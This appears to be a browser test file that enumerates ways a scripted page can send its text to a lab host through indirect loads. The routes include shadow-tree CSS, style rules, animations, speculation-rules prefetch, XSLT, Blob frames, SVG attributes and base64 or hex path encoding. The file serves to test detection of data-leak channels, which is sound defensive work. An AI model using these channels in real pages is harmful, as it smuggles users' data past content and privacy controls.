import { type ChannelCase, testChannels } from '../../support/channel-case.ts';
import { scripted } from '../../support/channel-page.ts';
import type { User } from '../../support/user.ts';

const press = (user: User) => user.click('#go');
const pressAndPoint = async (user: User) => {
  await user.click('#go');
  await user.page.mouse.move(300, 300);
  await user.page.mouse.move(320, 320);
};

const byAttribute = (name: string, set: string): ChannelCase => ({
  name: `loading by ${name}`,
  page: scripted(
    `const i = document.createElement('img'), a = document.createAttribute('src'), address = lab.at('anh') + '?d=' + encodeURIComponent(text);
    i.src = 'data:,'; ${set}; document.body.append(i)`,
  ),
  drive: press,
});

/** The address of a link is no load, and its attribute may be given to what loads. */
const byLinksAttribute = (name: string, set: string): ChannelCase => ({
  name: `loading by ${name} that a link had`,
  page: scripted(
    `const l = document.createElement('a'), s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'), i = document.createElementNS(s.namespaceURI, 'image');
    l.href = lab.at('anh') + '?d=' + encodeURIComponent(text); s.append(i);
    const a = l.removeAttributeNode(l.attributes.href); ${set}; document.body.append(s)`,
  ),
  drive: press,
});

const inShadow = (name: string, mode: 'open' | 'closed', set: string): ChannelCase => ({
  name: `loading by ${name} in ${mode === 'open' ? 'an open' : 'a closed'} shadow tree`,
  page: scripted(
    `const h = document.createElement('div'), e = document.createElement('ul'), r = h.attachShadow({ mode: '${mode}' }), url = 'url("' + lab.at('nen') + '?d=' + encodeURIComponent(text) + '")';
    e.innerHTML = '<li>x';
    e.style.cssText = 'border: 3px solid; border-image-slice: 3; position: fixed; inset: 0; z-index: 9';
    r.append(e); document.body.append(h); ${set}`,
  ),
  drive: name === 'cursor' ? pressAndPoint : press,
});

/** `p` stands nowhere yet, `u` is the address and `url` what a style calls it. */
const bySetting = (name: string, set: string): ChannelCase => ({
  name: `loading by ${name}`,
  page: scripted(
    `const el = (n) => document.createElement(n), svg = (n) => document.createElementNS('http://www.w3.org/2000/svg', n), u = lab.at('nen') + '?d=' + encodeURIComponent(text), url = 'url("' + u + '")', p = el('p');
    p.append('x'); ${set}`,
  ),
  drive: press,
});

/** `s` is the sheet of a style element with the rule `old`, `p` stands in the page. */
const byRule = (name: string, set: string, old = 'p { color: red }'): ChannelCase =>
  bySetting(
    name,
    `const e = el('style'); e.textContent = '${old}'; document.head.append(e); document.body.append(p); const s = e.sheet; ${set}`,
  );

const animated = `document.body.append(p); const frames = { backgroundImage: [url, url] }`;
const inBlob = (type: string, content: string) =>
  `URL.createObjectURL(new Blob([${content}], { type: 'text/${type}' }))`;
const inDrawing = (set: string) =>
  `const g = svg('svg'), r = svg('rect'); r.setAttribute('width', 99); r.setAttribute('height', 99); ${set}; g.append(r); document.body.append(g)`;

const SPECULATION = `JSON.stringify({ prefetch: [{ urls: [u], eagerness: 'immediate' }] })`;
/** `t` makes an image of the address in the document `x`. */
const STYLESHEET = `const parse = (s) => new DOMParser().parseFromString(s, 'text/xml'), t = new XSLTProcessor(), x = parse('<a/>'); x.documentElement.textContent = u; t.importStylesheet(parse('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:output method="html"/><xsl:template match="/"><html><body><img src="{.}"/></body></html></xsl:template></xsl:stylesheet>'))`;

const modes = ['open', 'closed'] as const;
const properties = ['backgroundImage', 'maskImage', 'borderImageSource', 'listStyleImage', 'cursor'];

testChannels('loads', import.meta.filename, [
  byAttribute('the node value of an attribute', 'i.attributes.src.nodeValue = address'),
  byAttribute('the text of an attribute', 'i.attributes.src.textContent = address'),
  byLinksAttribute('an attribute node', 'i.setAttributeNode(a)'),
  byLinksAttribute('an attribute node with a namespace', 'i.setAttributeNodeNS(a)'),
  byLinksAttribute('a listed attribute', 'i.attributes.setNamedItem(a)'),
  byLinksAttribute('a listed attribute with a namespace', 'i.attributes.setNamedItemNS(a)'),
  ...modes.flatMap((mode) => [
    ...properties.map((property) =>
      inShadow(property, mode, `e.style.${property} = url${property === 'cursor' ? " + ', auto'" : ''}`),
    ),
    inShadow(
      'the style of an element of a tree',
      mode,
      `const k = document.createElement('div'), p = document.createElement('p'); p.append('x'); k.attachShadow({ mode: '${mode}' }).append(p); r.append(k); p.style.backgroundImage = url`,
    ),
    inShadow(
      'a style element that is filled',
      mode,
      `const s = document.createElement('style'); r.append(s); s.append('li { background: ' + url + ' }')`,
    ),
  ]),
  bySetting(
    'a style set before its element stands in the page',
    'p.style.backgroundImage = url; document.body.append(p)',
  ),
  bySetting(
    'a style set before what holds its element stands in the page',
    `const d = el('div'); d.append(p); p.style.backgroundImage = url; document.body.append(d)`,
  ),
  bySetting(
    'a style set in a fragment',
    'const f = document.createDocumentFragment(); f.append(p); p.style.maskImage = url; document.body.append(f)',
  ),
  bySetting(
    'a style map set before its element stands in the page',
    `p.attributeStyleMap.set('background-image', url); document.body.append(p)`,
  ),
  bySetting(
    'a style set before it comes into a shadow tree',
    `const h = el('div'), r = h.attachShadow({ mode: 'closed' }), d = el('div'); d.append(p); p.style.backgroundImage = url; r.append(d); document.body.append(h)`,
  ),
  bySetting(
    'a style set on an element of a frame that then moves here',
    `const f = el('iframe'); document.body.append(f); const q = f.contentDocument.createElement('p'); q.append('x'); q.style.backgroundImage = url; document.body.append(q)`,
  ),
  bySetting(
    'a style set among a thousand others',
    `for (let i = 0; i < 1000; i++) document.body.append(el('i')); const d = el('div'); d.append(p); p.style.backgroundImage = url; document.body.prepend(d)`,
  ),
  bySetting(
    'a style element filled before it stands in the page',
    `const d = el('div'), s = el('style'); s.append('body { background: ' + url + ' }'); d.append(s); document.body.append(d)`,
  ),
  bySetting(
    'a style element of a drawing',
    `const g = svg('svg'), s = svg('style'); s.append('body { background: ' + url + ' }'); g.append(s); document.body.append(g)`,
  ),
  bySetting(
    'the text of a style element that changes',
    `const s = el('style'), t = document.createTextNode('b {}'); s.append(t); document.head.append(s); await new Promise((d) => setTimeout(d, 50)); t.data = 'body { background: ' + url + ' }'`,
  ),
  bySetting(
    'a style in a shadow tree of the markup',
    `const d = el('div'); d.setHTMLUnsafe('<div><template shadowrootmode="open"><p>x</p></template></div>'); document.body.append(d); d.firstChild.shadowRoot.querySelector('p').style.backgroundImage = url`,
  ),
  bySetting(
    'a style in a shadow tree of the markup that an event tells of',
    `const d = el('div'); d.setHTMLUnsafe('<div><template shadowrootmode="open"><p id=q>x</p></template></div>'); document.body.append(d); d.addEventListener('z', (e) => { e.composedPath()[0].style.backgroundImage = url }); customElements.define('z-z', class extends HTMLElement { connectedCallback() { this.dispatchEvent(new Event('z', { bubbles: true, composed: true })) } }); d.setHTMLUnsafe('<div><template shadowrootmode="open"><z-z style="display:block">x</z-z></template></div>')`,
  ),
  bySetting(
    'speculation rules appended as a node',
    `const s = el('script'); s.type = 'speculationrules'; s.append(${SPECULATION}); document.head.append(s)`,
  ),
  bySetting(
    'speculation rules whose kind is told last',
    `const s = el('script'); s.append(${SPECULATION}); s.setAttribute('type', 'speculationrules'); document.head.append(s)`,
  ),
  bySetting(
    'speculation rules that come after their script',
    `const s = el('script'); s.type = 'speculationrules'; document.head.append(s); s.append(document.createTextNode(${SPECULATION}))`,
  ),
  bySetting(
    'speculation rules in a fragment',
    `document.head.append(document.createRange().createContextualFragment('<script type="speculationrules">' + ${SPECULATION} + '</' + 'script>'))`,
  ),
  bySetting(
    'an image of a Blob that is read as a document',
    `const x = new XMLHttpRequest(); x.open('GET', ${inBlob('html', `'<img src="' + u + '">'`)}); x.responseType = 'document'; x.onload = () => document.body.append(x.response.images[0]); x.send()`,
  ),
  bySetting(
    'an image that a style sheet makes',
    `${STYLESHEET}; document.body.append(t.transformToFragment(x, document))`,
  ),
  bySetting(
    'an image of a document that a style sheet makes',
    `${STYLESHEET}; document.body.append(t.transformToDocument(x).querySelector('img'))`,
  ),
  byRule('a property of a rule', 's.cssRules[0].style.backgroundImage = url'),
  byRule('the style of a rule', `s.cssRules[0].style = 'background: ' + url`),
  byRule('the style map of a rule', `s.cssRules[0].styleMap.set('background-image', url)`),
  byRule(
    'a rule inside a rule',
    `s.cssRules[0].insertRule('p { background: ' + url + ' }')`,
    '@media all {}',
  ),
  byRule(
    'a rule of key frames',
    `s.cssRules[0].appendRule('from, to { background-image: ' + url + ' }')`,
    '@keyframes k {} p { animation: k 9e9s }',
  ),
  byRule(
    'the source of a font in a rule',
    `p.style.fontFamily = 'zz'; s.cssRules[0].style.src = url`,
    '@font-face { font-family: zz; src: url(data:,) }',
  ),
  bySetting('an animation', `${animated}; p.animate(frames, { duration: 9e9 })`),
  bySetting(
    'an animation in steps',
    `${animated}; p.animate([{ backgroundImage: url }, { backgroundImage: url }], { duration: 9e9 })`,
  ),
  bySetting(
    'the effect of an animation',
    `${animated}; new Animation(new KeyframeEffect(p, frames, { duration: 9e9 })).play()`,
  ),
  bySetting(
    'an effect that is set later',
    `${animated}; p.animate([], { duration: 9e9 }).effect.setKeyframes(frames)`,
  ),
  bySetting(
    'the images of a link',
    `const l = el('link'); l.rel = 'preload'; l.as = 'image'; l.imageSrcset = u + ' 1x'; document.head.append(l)`,
  ),
  bySetting(
    'the images of a link as an attribute',
    `const l = el('link'); l.rel = 'preload'; l.as = 'image'; l.setAttribute('imagesrcset', u + ' 1x'); document.head.append(l)`,
  ),
  bySetting(
    'the base of all addresses',
    `const b = el('base'), i = el('img'); b.href = lab.at('') + encodeURIComponent(text) + '/'; document.head.append(b); i.src = 'x.png'; document.body.append(i)`,
  ),
  bySetting(
    'a frame of a frame set',
    `const s = el('frameset'), f = el('frame'); f.src = u; s.append(f); document.documentElement.append(s)`,
  ),
  bySetting(
    'a frame whose page is a Blob',
    `const f = el('iframe'); f.src = ${inBlob('html', `'<img src="' + u + '">'`)}; document.body.append(f)`,
  ),
  bySetting(
    'a style sheet that is a Blob',
    `const l = el('link'); l.rel = 'stylesheet'; l.href = ${inBlob('css', `'body { background: ' + url + ' }'`)}; document.head.append(l)`,
  ),
  bySetting('the filter of a drawing', inDrawing(`r.setAttribute('filter', 'url("' + u + '#f")')`)),
  bySetting(
    'an address that a drawing is animated to',
    `const g = svg('svg'), i = svg('image'), a = svg('set'); i.setAttribute('width', 99); i.setAttribute('height', 99); a.setAttribute('attributeName', 'href'); a.setAttribute('to', u); i.append(a); g.append(i); document.body.append(g)`,
  ),
  bySetting(
    'text in base64 in the path',
    `new Image().src = lab.at('a/') + btoa(unescape(encodeURIComponent(lab.line))).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')`,
  ),
  bySetting(
    'text in hexadecimal in the path',
    `new Image().src = lab.at('a/') + [...new TextEncoder().encode(lab.line)].map((b) => b.toString(16).padStart(2, '0')).join('')`,
  ),
]);
